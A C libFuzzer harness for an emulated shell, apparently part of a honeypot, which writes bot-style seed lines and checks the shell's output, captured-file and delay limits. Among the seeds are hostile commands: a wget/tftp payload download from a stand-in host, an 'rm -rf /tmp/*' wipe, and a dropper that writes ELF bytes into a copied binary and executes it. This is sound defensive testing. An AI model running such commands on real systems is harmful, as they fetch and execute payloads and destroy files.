/*
 * The shell against hostile lines.  With KANSOKU_SEEDS=DIR some lines of bots are written
 * there as seeds before the first run.
 */
#include "passive/device/shell/shell.h"
#include <stdio.h>
#include <stdlib.h>

#define SAID_MAX (2u << 20) /* of one line; more than its limits allow is a defect */

struct owner {
	size_t said;
};

int LLVMFuzzerInitialize(int *argc, char ***argv);
int LLVMFuzzerTestOneInput(const uint8_t *, size_t);

static const char *const seeds[] = {
        "cat /bin/echo | head -c 52; dd bs=52 count=1 if=/bin/echo of=/tmp/x; /bin/busybox X",
        ">/tmp/.x && cd /tmp/; cp /bin/echo y; >y; chmod 777 y; echo -ne '\\x7f\\105' >> y; ./y",
        "while read i; do case \"$i\" in *rw*) echo ${i#* };; esac; done < /proc/mounts",
        "for i in 1 2 3; do [ $((i%2)) -eq 0 ] && continue || echo \"$i\" | sed "
        "'s/\\(.\\)/<\\1>/g'; done",
        "f() { local x=$1; shift; echo ${x:-d} \"$@\" `echo \\`uname\\``; return $?; }\nf a b 2>&1 "
        "&",
        "cat <<E | grep -E '^(a|b)+$' >> f\nab\nE\nuntil ! true; do :; done\ncat > g\nline\n\4",
        "x=a.b.c; echo ${x%.*} ${x##*.} ${x/b/*} ${#x} ${x:1:2}; IFS=. ; set -- $x; echo $# $*; "
        "printf '%5s|%x' a 9",
        "if [ -f /bin/wget ]; then wget http://h/p -O q; else tftp -g -l q -r p h; fi; ls -la q; "
        "rm -rf /tmp/*",
};

int LLVMFuzzerInitialize(int *argc, char ***argv)
{
	(void)argc;
	(void)argv;
	const char *directory = getenv("KANSOKU_SEEDS");
	for (size_t i = 0; directory && i < sizeof seeds / sizeof *seeds; i++) {
		char path[4096];
		snprintf(path, sizeof path, "%s/line-%zu", directory, i);
		FILE *f = fopen(path, "wb");
		if (f) {
			fputs(seeds[i], f);
			fclose(f);
		}
	}
	return 0;
}

static void hook_say(void *owner, struct bytes b)
{
	struct owner *o = owner;
	o->said += b.len;
	if (o->said > SAID_MAX)
		abort();
}

static void hook_fetched(void *owner, struct bytes url, struct bytes name, const char *how)
{
	(void)owner, (void)url, (void)name, (void)how;
}

static void hook_captured(void *owner, struct bytes content, struct bytes name, const char *how)
{
	(void)owner, (void)name, (void)how;
	if (content.len > VFS_FILE_MAX)
		abort();
}

static void hook_delayed(void *owner, uint32_t delay_ms)
{
	(void)owner;
	if (delay_ms > SHELL_DELAY_MS_MAX)
		abort();
}

static uint64_t hook_time(void *owner)
{
	return owner ? 1700000000000000u : 0;
}
static uint64_t hook_random(void *owner)
{
	return owner ? 7 : 0;
}

static const struct shell_hooks hooks = {hook_say,     hook_fetched, hook_captured,
                                         hook_delayed, hook_time,    hook_random, NULL};

int LLVMFuzzerTestOneInput(const uint8_t *input, size_t n)
{
	struct arena arena = ARENA(384 * 1024);
	struct address local = address_v4(0xc0000201);
	struct owner owner = {0};
	struct shell shell;
	struct reader r = reader_of(input, n);
	enum shell_next next = SHELL_CONTINUE;
	shell_start(&shell, &persona_plain, &local, 5, &arena, &hooks, &owner);
	while (next == SHELL_CONTINUE && reader_left(&r)) {
		const uint8_t *lf = memchr(r.at, '\n', reader_left(&r));
		size_t len = lf ? (size_t)(lf - r.at) : reader_left(&r);
		struct bytes line = read_bytes(&r, len < SHELL_LINE_MAX ? len : SHELL_LINE_MAX);
		if (lf && len < SHELL_LINE_MAX)
			read_u8(&r);
		owner.said = 0;
		next = line.len && line.at[0] == 4 ? shell_end_of_input(&shell)
		                                   : shell_line(&shell, line);
		shell_prompt(&shell);
	}
	shell_finish(&shell);
	arena_done(&arena);
	return 0;
}
